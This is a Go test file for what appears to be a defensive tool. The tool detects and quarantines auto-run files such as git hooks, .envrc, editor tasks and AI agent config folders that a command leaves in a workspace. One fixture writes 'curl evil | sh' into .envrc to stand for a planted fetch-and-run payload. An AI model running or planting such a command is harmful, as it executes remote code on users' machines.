package autorun

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
)

// tree makes the files named in spec under a new root: "x/" a directory,
// "x -> y" a symbolic link, "x: text" a file with text.
func tree(t testing.TB, spec ...string) string {
	t.Helper()
	root := t.TempDir()
	for _, s := range spec {
		var err error
		switch {
		case strings.HasSuffix(s, "/"):
			err = os.MkdirAll(filepath.Join(root, s), 0o755)
		case strings.Contains(s, " -> "):
			from, to, _ := strings.Cut(s, " -> ")
			os.MkdirAll(filepath.Dir(filepath.Join(root, from)), 0o755)
			err = os.Symlink(to, filepath.Join(root, from))
		default:
			name, text, _ := strings.Cut(s, ": ")
			os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o755)
			err = os.WriteFile(filepath.Join(root, name), []byte(text), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func rel(root string, ps []string) []string {
	out := []string{}
	for _, p := range ps {
		r, _ := filepath.Rel(root, p)
		out = append(out, r)
	}
	return out
}

func TestFindProtectsEveryRepository(t *testing.T) {
	root := tree(t,
		"proj1/.git/hooks/pre-commit: #!/bin/sh",
		"proj1/.git/config: [core]\n\thooksPath = tools/hooks\n[include]\n\tpath = ../shared.cfg\n[includeIf \"gitdir:x\"]\n path = /elsewhere/x.cfg\n",
		"proj1/.git/objects/",
		"proj1/.git/modules/sub/a/HEAD: ref",
		"proj1/.git/modules/sub/a/config: [core]",
		"proj1/tools/hooks/",
		"proj1/shared.cfg: [core]",
		"proj1/src/deep/nested/.git/config: [core]",
		"proj2/.git: gitdir: ../gd",
		"gd/config: [core]",
		"gd/hooks/",
		"gd/commondir: ../main.git",
		"main.git/config: [core]",
		"web/.envrc: use flake",
		"web/.vscode/tasks.json: {}",
		"web/.config/fish/config.fish: ls",
		"web/node_modules/x/.git/config: [core]",
		"web/.mcp.json -> real-mcp.json",
		"web/real-mcp.json: {}",
		"web/.claude -> /etc",
	)
	f, err := Find(root)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"gd/commondir", "gd/config", "gd/hooks", "main.git/config",
		"proj1/.git/config", "proj1/.git/hooks", "proj1/.git/modules/sub/a/config", "proj1/shared.cfg",
		"proj1/src/deep/nested/.git/config", "proj1/tools/hooks",
		"proj2/.git",
		"web/.config/fish", "web/.envrc", "web/.vscode", "web/real-mcp.json",
	}
	if got := rel(root, f.Protect); !reflect.DeepEqual(got, want) {
		t.Errorf("Protect =\n%q\nwant\n%q", got, want)
	}
	if _, ok := f.Entries[filepath.Join(root, "web/.claude")]; !ok {
		t.Error("a .claude link leading out is not an entry: replacing it would go unseen")
	}
}

func TestDiffFindsWhatACommandLeft(t *testing.T) {
	root := tree(t, "proj/.git/config: [core]", "proj/.envrc -> env.sh", "proj/env.sh: x", "proj/src/")
	before, err := Find(root)
	if err != nil {
		t.Fatal(err)
	}
	// What a command might leave: a new repository, a hook directory the
	// repository lacked, a link replaced by a file, a new agent folder.
	for _, s := range []string{"proj/src/inner/.git/config", "proj/.git/hooks/pre-commit", "proj/.claude/settings.json"} {
		os.MkdirAll(filepath.Dir(filepath.Join(root, s)), 0o755)
		os.WriteFile(filepath.Join(root, s), []byte("x"), 0o755)
	}
	os.Remove(filepath.Join(root, "proj/.envrc"))
	os.WriteFile(filepath.Join(root, "proj/.envrc"), []byte("curl evil | sh"), 0o644)
	after, err := Find(root)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"proj/.claude", "proj/.envrc", "proj/.git/hooks", "proj/src/inner/.git"}
	got := Diff(before, after)
	if !reflect.DeepEqual(rel(root, got), want) {
		t.Fatalf("Diff = %q, want %q", rel(root, got), want)
	}
	moved, err := Quarantine(root, got, "1")
	if err != nil || len(moved) != len(got) {
		t.Fatalf("Quarantine: %v %v", moved, err)
	}
	again, _ := Find(root)
	if d := Diff(before, again); len(d) != 0 {
		t.Errorf("after quarantine, still new: %q", rel(root, d))
	}
}

func TestGlobsCoverNames(t *testing.T) {
	g := Globs()
	if len(g) != len(Names) || g[0] != ".git" {
		t.Fatalf("Globs() = %q", g)
	}
}

// TestQuarantineFollowsNoLink: a directory on the way swapped for a link
// after the walk (to the owner's real repository elsewhere) fails the
// rename; nothing outside the root moves.
func TestQuarantineFollowsNoLink(t *testing.T) {
	root := tree(t, "proj/x/.git/config: [core]")
	outside := tree(t, "real/.git/config: [core]")
	left := []string{filepath.Join(root, "proj/x/.git")}
	os.RemoveAll(filepath.Join(root, "proj/x"))
	must(t, os.Symlink(filepath.Join(outside, "real"), filepath.Join(root, "proj/x")))
	if moved, err := Quarantine(root, left, "1"); err == nil || len(moved) != 0 {
		t.Fatalf("Quarantine through a link: %v %v", moved, err)
	}
	if _, err := os.Stat(filepath.Join(outside, "real/.git/config")); err != nil {
		t.Fatalf("the repository outside moved: %v", err)
	}
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func TestFindRefusesTooManyToProtect(t *testing.T) {
	root := t.TempDir()
	for i := 0; i <= MaxProtect; i++ {
		must(t, os.MkdirAll(filepath.Join(root, "d"+strconv.Itoa(i), ".vscode"), 0o755))
	}
	if _, err := Find(root); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("Find with %d to protect: %v", MaxProtect+1, err)
	}
}

// TestDiffQuarantinesTooDeep: a repository hidden deeper than the walk
// goes is not missed: the directory the walk stops at is new, so it is
// quarantined whole.
func TestDiffQuarantinesTooDeep(t *testing.T) {
	root := t.TempDir()
	before, err := Find(root)
	must(t, err)
	deep := root + strings.Repeat("/d", maxDepth+3)
	must(t, os.MkdirAll(deep+"/.git", 0o755))
	after, err := Find(root)
	must(t, err)
	d := Diff(before, after)
	if len(d) != 1 || !strings.HasPrefix(deep, d[0]+"/") {
		t.Fatalf("Diff = %q", d)
	}
}
